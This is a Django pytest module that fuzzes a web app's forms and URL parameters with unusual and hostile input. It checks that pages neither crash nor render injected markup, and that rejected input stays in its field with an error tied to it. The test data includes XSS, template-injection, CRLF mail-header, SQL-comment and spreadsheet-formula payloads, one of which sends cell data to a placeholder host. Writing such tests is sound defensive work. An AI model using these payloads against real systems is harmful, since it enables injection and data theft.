"""Every field of every form takes whatever people and programs type: refused beside the field, or kept harmlessly."""

from collections.abc import Iterator
from typing import Any

import pytest
from bs4 import BeautifulSoup
from django.core.cache import cache
from django.test import Client
from django.urls import resolve

from tests.permissions import asking
from tests.permissions.forms import FoundForm, encoded, forms_on, sensibly
from tests.permissions.table import TABLE
from tests.world import ADMIN, FACILITATING, MEMBER, REPRESENTATIVE, SECRETARY, VISITOR, World, kept_for_now

MARK = "zzmark"
TYPED = {
    "emoji in a family": f"{MARK} 👩‍👩‍👧‍👦 🏳️‍🌈",
    "right-to-left override": f"{MARK} \u202egnihton\u202c",
    "letters of four bytes": f"{MARK} 𝕳𝖔𝖘𝖕𝖊𝖘 𐍈 𠮷",
    "ten thousand letters": f"{MARK} " + "x" * 10_000,
    "a formula": f'=HYPERLINK("http://x.example/?"&A1) {MARK}',
    "markup": f'{MARK}"><script>alert("{MARK}")</script><img src=x onerror=alert(1)>',
    "a template": f"{MARK} {{{{ settings.SECRET_KEY }}}} {{% debug %}} {{0.__class__}} %(name)s",
    "a header": f"{MARK}\r\nBcc: x@x.example",
}
RAW = {
    "NUL": b"zzmark \x00 end",
    "half a character": b"zzmark \xed\xa0\x80 end",
    "bytes that are no text": b"zzmark \xff\xfe\xc3 end",
    "nothing to see": " \u200b\u00a0\u2060 ".encode(),
}
WHO = (VISITOR, MEMBER, REPRESENTATIVE, FACILITATING, SECRETARY, ADMIN)


# A new token is shown on the answer itself, once; and so is what was read from a pasted text, kept nowhere else.
ANSWERS_AT_ONCE = {"people:token-list", "incoming:paste"}


@pytest.fixture(scope="module")
def browsers(world: World) -> dict[str, Client]:
    return asking.clients(world)


@pytest.fixture(scope="module")
def found(world: World, browsers: dict[str, Client]) -> list[FoundForm]:
    """Each form once, as the first who sees it."""
    forms: dict[str, FoundForm] = {}
    for line in TABLE:
        role = next((role for role in WHO if role in line.see), None)
        if role is None or line.is_api or line.only_in:
            continue
        url = asking.address(world, line)
        page = asking.look(world, browsers[role], role, line)
        # Read to its end, which closes files, too.
        body = asking.body(page)
        if not page.headers.get("Content-Type", "").startswith("text/html"):
            continue
        for form in forms_on(body, url, role):
            forms.setdefault(f"{form.name} {line.about}", form)
    return list(forms.values())


def test_forms_are_found(found: list[FoundForm]) -> None:
    """The tests below would pass on nothing."""
    assert len(found) > 40


@pytest.mark.parametrize("what", [*TYPED, *RAW])
def test_free_text_is_kept_or_refused_beside_the_field(
    found: list[FoundForm], browsers: dict[str, Client], what: str
) -> None:
    wrong = {}
    for form in found:
        typed = {box.name: TYPED.get(what) or RAW[what] for box in form.boxes if box.is_free}
        if typed:
            with kept_for_now():
                if faults := list(faults_after(browsers[form.role], form, sensibly(form) | typed, typed)):
                    wrong[str(form)] = faults

    assert wrong == {}


@pytest.mark.parametrize("what", ["ten thousand letters", "markup", "a header", *RAW])
def test_nonsense_in_every_field_at_once_breaks_nothing(
    found: list[FoundForm], browsers: dict[str, Client], what: str
) -> None:
    wrong = {}
    for form in found:
        values = {box.name: TYPED.get(what) or RAW[what] for box in form.boxes}
        with kept_for_now():
            if faults := list(faults_after(browsers[form.role], form, values, {})):
                wrong[str(form)] = faults

    assert wrong == {}


def faults_after(client: Client, form: FoundForm, values: Any, typed: Any) -> Iterator[str]:
    """Send it, go where it leads, and read what is there."""
    cache.clear()
    cookies = client.cookies.copy()
    client.raise_request_exception = False
    answer = client.post(form.url, encoded(values), content_type="application/x-www-form-urlencoded")
    if answer.status_code >= 500:
        yield f"broken: {answer.status_code} {getattr(answer, 'exc_info', ('', ''))[1]!r}"[:200]
        return
    if answer.status_code in (301, 302):
        answer = client.get(answer["Location"], follow=True)
        if answer.status_code >= 500:
            yield f"broken after it: {answer.status_code}"
            return
    elif typed and answer.status_code != 404 and resolve(form.url.split("?")[0]).view_name not in ANSWERS_AT_ONCE:
        yield from _lost(asking.body(answer), typed)
    if "<script>alert" in asking.body(answer) or "<img src=x" in asking.body(answer):
        yield "markup lives"
    client.cookies = cookies


def _lost(body: str, typed: dict[str, str | bytes]) -> Iterator[str]:
    """The form came back: with what was typed, and an error that its field knows of."""
    page = BeautifulSoup(body, "html.parser")
    refused = page.select('[aria-invalid="true"]')
    if not refused and not page.select('[role="alert"], .messages p'):
        yield "came back without a word"
    for one in refused:
        # A group of boxes is described as a whole.
        tied = [one, *([group] if (group := one.find_parent("fieldset")) else [])]
        words = [page.find(id=part) for part in " ".join(str(it.get("aria-describedby") or "") for it in tied).split()]
        if not words or None in words:
            yield f"{one.get('name')}: the error is not tied to its field"
    for name, value in typed.items():
        box = page.select_one(f'[name="{name}"]')
        if isinstance(value, str) and box is not None:
            kept = box.get_text() if box.name == "textarea" else str(box.get("value") or "")
            if " ".join(kept.split()) != " ".join(value.split()):
                yield f"{name}: typing lost, {kept[:60]!r} is left"


HOSTILE = ["-1", str(10**18), "٣", "\x00", "'; --", "a" * 5000, "zz__zz=😀%"]
USUAL = {
    "page",
    "search",
    "q",
    "kind",
    "status",
    "show",
    "sort",
    "to",
    "topic",
    "month",
    "region",
    "on",
    "organisation",
}


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: ascii(value)[:20])
def test_hostile_addresses_break_no_page(world: World, browsers: dict[str, Client], value: str) -> None:
    broken = {}
    for line in TABLE:
        role = next((role for role in WHO if role in line.see), None)
        if role is None or line.only_in or line.is_api:
            continue
        url = asking.address(world, line).split("?")[0]
        client = browsers[role]
        client.raise_request_exception = False
        for query in (dict.fromkeys(USUAL, value), {value: value}):
            answer = client.get(url, query)
            asking.body(answer)
            if answer.status_code >= 500 and answer.status_code != 503:
                broken[str(line)] = repr(getattr(answer, "exc_info", ("", ""))[1])[:200]

    assert broken == {}
